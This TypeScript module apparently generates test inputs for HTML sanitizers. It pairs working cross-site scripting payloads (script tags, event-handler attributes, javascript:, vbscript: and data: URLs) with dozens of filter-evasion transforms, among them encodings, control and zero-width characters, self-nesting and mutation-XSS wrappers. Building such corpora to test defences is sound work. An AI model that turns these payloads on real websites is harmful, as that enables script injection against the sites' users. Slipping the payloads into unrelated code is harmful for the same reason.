/*
 * The same attack in other clothes: each variation is what some filter was once passed by.
 */

const references = (text: string, write: (code: number) => string): string =>
  Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join('')
const decimal = (text: string) => references(text, (code) => `&#${code};`)
const hexadecimal = (text: string) => references(text, (code) => `&#x${code.toString(16)};`)
const bare = (text: string) => references(text, (code) => `&#${String(code).padStart(7, '0')}`)
const percent = (text: string) => references(text, (code) => `%${code.toString(16).padStart(2, '0')}`)
const mixedCase = (text: string) =>
  Array.from(text, (letter, index) => (index % 2 ? letter.toUpperCase() : letter.toLowerCase())).join('')

/** Each is one attack that works in a browser. */
const TAGS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<details open ontoggle="alert(1)">x</details>',
  '<a href="https://a.example/" onfocus="alert(1)" autofocus>x</a>',
]

const TAG_VARIATIONS: readonly ((tag: string) => string)[] = [
  mixedCase,
  (tag) => tag.toUpperCase(),
  // White space and what once counted as such.
  (tag) => tag.replaceAll(' ', '/'),
  (tag) => tag.replaceAll(' ', '\n\t'),
  (tag) => tag.replaceAll(' ', '\f'),
  (tag) => tag.replaceAll(' ', '\u000b'),
  (tag) => tag.replaceAll('=', ' \n= '),
  (tag) => tag.replaceAll('>', '\n>'),
  // Characters that a later step drops.
  (tag) => tag.replace(/<(\w)/, '<$1\u00ad'),
  (tag) => tag.replace(/on(\w)/, 'o\u200bn$1'),
  (tag) => `\ufeff${tag.replace(/<(\w)/, '<$1\ufeff')}`,
  (tag) => tag.replace(/<(\w)/, '<$1\u0008'),
  (tag) => tag.replaceAll('<', '＜').replaceAll('>', '＞'),
  // As references, of each kind, once and twice.
  decimal,
  hexadecimal,
  bare,
  percent,
  (tag) => decimal(tag).replaceAll('&', '&amp;'),
  (tag) => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (tag) => tag.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  // Around itself, so that taking the inner one out leaves the outer one.
  (tag) => tag.replace(/<(\w)/, `<$1${tag.replaceAll('$', '$$$$')}`),
  (tag) => `<${tag}`,
  (tag) => `${tag}${tag}`,
  (tag) => tag.split('').reverse().join(''),
  // Cut off.
  (tag) => tag.slice(0, -1),
  (tag) => tag.slice(0, tag.indexOf('>')),
  // Inside of what is allowed, and of what is skipped.
  (tag) => `<p><b>${tag}</b></p>`,
  (tag) => `<table><tr><td>${tag}</table>`,
  (tag) => `<a title='${tag}'>x</a>`,
  (tag) => `<img alt="x" title='"${tag}'>`,
  (tag) => `<style><!--</style>${tag}--></style>`,
  (tag) => `<noscript><p title="</noscript>${tag}"></noscript>`,
  (tag) => `<!-- -- > ${tag} -->`,
  (tag) => `<!--${tag}--!>${tag}`,
  (tag) => `<svg><desc><![CDATA[</desc></svg>${tag}]]></svg>`,
  (tag) => `<math><mtext><mglyph><style></style></math>${tag}`,
  (tag) => `<textarea></textarea\n>${tag}</textarea>`,
]

/** Each runs, or did in some browser, where it is an address. */
const ADDRESSES = ['javascript:alert(1)', 'vbscript:alert(1)', 'data:text/html,<svg onload=alert(1)>']

const ADDRESS_VARIATIONS: readonly ((url: string) => string)[] = [
  mixedCase,
  (url) => ` \n ${url}`,
  (url) => `\u0001${url}`,
  (url) => `\u001f${url}`,
  (url) => `\u00a0\u2028\u3000${url}`,
  (url) => url.replace(':', '\t:'),
  (url) => `${url.slice(0, 3)}\n${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}\r${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}\u00ad${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}&Tab;${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}&NewLine;${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}&#0;${url.slice(3)}`,
  (url) => url.replace(':', '&colon;'),
  (url) => url.replace(':', '&amp;colon;'),
  (url) => url.replace(':', '%3a'),
  (url) => url.replace(':', '：'),
  decimal,
  hexadecimal,
  bare,
  (url) => decimal(url).replaceAll('&', '&amp;'),
  (url) => `feed:${url}`,
  (url) => `view-source:${url}`,
  (url) => `jar:${url}!/`,
  (url) => `//${url}`,
]

/** Where an address stands in a tag. */
const inLink = (url: string, index: number): string => {
  const value = url.replaceAll('"', '&quot;')
  const places = [
    `<a href="${value}">x</a>`,
    `<img src="${value}">`,
    `<q cite="${value}">x</q>`,
    `<a href='${value}' target=_blank>x</a>`,
  ]
  return places[index % places.length] ?? ''
}

export const VARIED_TAGS = TAGS.flatMap((tag) => TAG_VARIATIONS.map((vary) => vary(tag)))

/** The addresses by themselves, for fields that are addresses. */
export const VARIED_ADDRESSES = ADDRESSES.flatMap((url) => [
  url,
  ...ADDRESS_VARIATIONS.map((vary) => vary(url)),
])

export const VARIED_LINKS = VARIED_ADDRESSES.map(inLink)
